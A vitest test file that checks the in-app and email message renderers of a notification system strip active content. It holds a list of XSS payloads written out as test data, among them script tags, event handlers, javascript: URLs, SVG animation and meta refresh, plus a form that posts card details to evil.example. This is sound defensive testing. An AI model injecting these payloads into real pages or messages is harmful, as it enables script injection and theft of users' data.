import { describe, expect, it } from 'vitest';
import type { ChannelTemplate, RenderContext } from './channel';
import { createEmailChannel } from './email/email-channel';
import { createInAppChannel } from './in-app/in-app-channel';

/**
 * Active content in message HTML, one attack vector per case, through the real renderers (Liquid, MJML,
 * sanitiser) of both channels whose HTML reaches a browser or a mail client: the in-app message (drawn in
 * the shop's own page) and the email. Each case fails if the vector survives rendering. The harmless markup
 * around it must survive, so a renderer that dropped everything would fail too.
 */
const context: RenderContext = {
  variables: { customer: { first_name: 'Ada' } },
  sendId: 'send-xss',
  links: {
    unsubscribeUrl: 'https://app.example/api/unsubscribe/u',
    preferencesUrl: 'https://app.example/u/u',
    openPixelUrl: 'https://app.example/t/o/o',
    trackClick: (url) => `https://app.example/t/c/c?u=${encodeURIComponent(url)}`,
  },
  mode: 'send',
  defaultLocale: 'en',
  sender: {},
};

interface Vector {
  name: string;
  html: string;
  /** What must not be in the rendered HTML (case-insensitive). */
  absent: RegExp;
}

const VECTORS: Vector[] = [
  { name: 'script tag', html: '<script>alert(1)</script>', absent: /<script|alert\(1\)/i },
  {
    name: 'on* event handler',
    html: '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>',
    absent: /\son[a-z]+=/i,
  },
  { name: 'javascript: URL in href', html: '<a href="javascript:alert(1)">x</a>', absent: /javascript:/i },
  {
    name: 'javascript: URL hidden by entities and case',
    html: '<a href="JaVa&#115;cript&colon;alert(1)">x</a>',
    absent: /javascript|&#115;|&colon;/i,
  },
  { name: 'javascript: URL in img src', html: '<img src="javascript:alert(1)">', absent: /javascript:/i },
  { name: 'svg onload', html: '<svg onload="alert(1)"><circle r="1"/></svg>', absent: /onload|alert/i },
  {
    name: 'svg animate setting href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    absent: /javascript:|<animate/i,
  },
  { name: 'iframe', html: '<iframe src="https://evil.example"></iframe>', absent: /<iframe|evil\.example/i },
  {
    name: 'object',
    html: '<object data="https://evil.example/x.swf"></object>',
    absent: /<object|evil\.example/i,
  },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', absent: /<embed|evil\.example/i },
  {
    name: 'style expression()',
    html: '<div style="width:expression(alert(1))">x</div>',
    absent: /expression/i,
  },
  {
    name: 'style url(javascript:)',
    html: '<div style="background:url(javascript:alert(1))">x</div>',
    absent: /javascript:/i,
  },
  {
    name: 'style sheet with expression()',
    html: '<style>.x{width:expr\\65 ssion(alert(1))}</style><p class="x">x</p>',
    absent: /alert\(1\)/i,
  },
  {
    name: 'data: URL in a link',
    html: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    absent: /data:|alert/i,
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    absent: /refresh|evil\.example/i,
  },
  {
    name: 'form action',
    html: '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
    absent: /<form|<input|evil\.example/i,
  },
  { name: 'base href', html: '<base href="https://evil.example/">', absent: /<base|evil\.example/i },
];

const SAFE = '<b>Safe part</b> <a href="https://shop.example/sale">Sale</a>';

function template(channel: string, content: unknown): ChannelTemplate {
  return { id: 'tpl-xss', channel, content, compiled: null, topicKey: null };
}

async function renderInApp(html: string): Promise<string> {
  const channel = createInAppChannel({ store: () => Promise.resolve('unused') });
  const draft = await channel.render(
    template('inApp', { variants: { en: { html: `${SAFE}${html}` } } }),
    context,
    'en',
  );
  return draft.content.html;
}

async function renderEmail(html: string): Promise<string> {
  // Created per render: nodemailer connects only on send, and render never sends.
  const channel = createEmailChannel({ transport: 'smtp://127.0.0.1:1' });
  const mjml = `<mjml><mj-body><mj-section><mj-column><mj-text>${SAFE}</mj-text><mj-raw>${html}</mj-raw></mj-column></mj-section></mj-body></mjml>`;
  const message = await channel.render(
    template('email', { variants: { en: { subject: 'Hi', mjml } } }),
    context,
    'en',
  );
  return message.html;
}

describe.each([
  ['in-app', renderInApp],
  ['email', renderEmail],
] as const)('%s HTML', (_channel, render) => {
  it.each(VECTORS)('removes $name', async ({ html, absent }) => {
    const rendered = await render(html);
    expect(rendered).toContain('<b>Safe part</b>');
    expect(rendered).toMatch(/href="https:\/\/[^"]*shop\.example/);
    expect(rendered).not.toMatch(absent);
  });
});

describe('email HTML keeps what mail clients need', () => {
  it('keeps the doctype, style sheets, Outlook conditionals and the open pixel', async () => {
    const html = await renderEmail('');
    expect(html).toMatch(/^<!doctype html>/i);
    expect(html).toMatch(/<style[^>]*>[^<]*\S/);
    expect(html).toContain('<!--[if mso | IE]>');
    expect(html).toContain('https://app.example/t/o/o');
  });

  it('drops an Outlook conditional that hides a script', async () => {
    const html = await renderEmail('<!--[if mso]><script>alert(1)</script><![endif]-->');
    expect(html).not.toMatch(/alert\(1\)/);
  });
});
